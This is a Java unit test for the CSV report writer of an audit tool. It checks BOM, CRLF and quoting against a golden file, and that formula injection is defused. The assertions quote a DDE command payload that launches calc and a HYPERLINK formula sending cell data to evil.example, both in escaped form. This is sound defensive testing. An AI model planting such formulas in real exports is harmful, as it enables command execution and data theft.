package org.pveaudit.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code findings.csv} of {@link HostileRun} against {@code golden/findings.csv} byte for byte (BOM, CRLF, RFC
 * 4180 quoting, formula prefixes); regenerate the golden file with
 * {@code mvn -o test -Dtest=CsvReportTest -Dgolden.update=true} and review the diff.
 */
class CsvReportTest {

    @TempDir
    Path dir;

    @Test
    void csvMatchesTheGoldenFile() throws Exception {
        Path file = new CsvReport().write(HostileRun.data(), dir);

        assertThat(file.getFileName()).hasToString(CsvReport.FILE);
        Golden.assertText(file, "findings.csv");
    }

    @Test
    void formulasAreQuotedTextAndTheFileOpensWithABom() throws Exception {
        String csv = Files.readString(new CsvReport().write(HostileRun.data(), dir), StandardCharsets.UTF_8);

        assertThat(csv).startsWith("\uFEFFseverity,cluster,rule,");
        // one header, four findings, one rule error; the quoted line break inside a message is not a row
        assertThat(csv.split("\r\n")).hasSize(6);
        assertThat(csv).contains(",\"'=cmd|' /C calc'!A0\",")
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"")
                .doesNotContain(",=")
                .contains("rule failed, its findings are not known: EL1008E");
    }
}
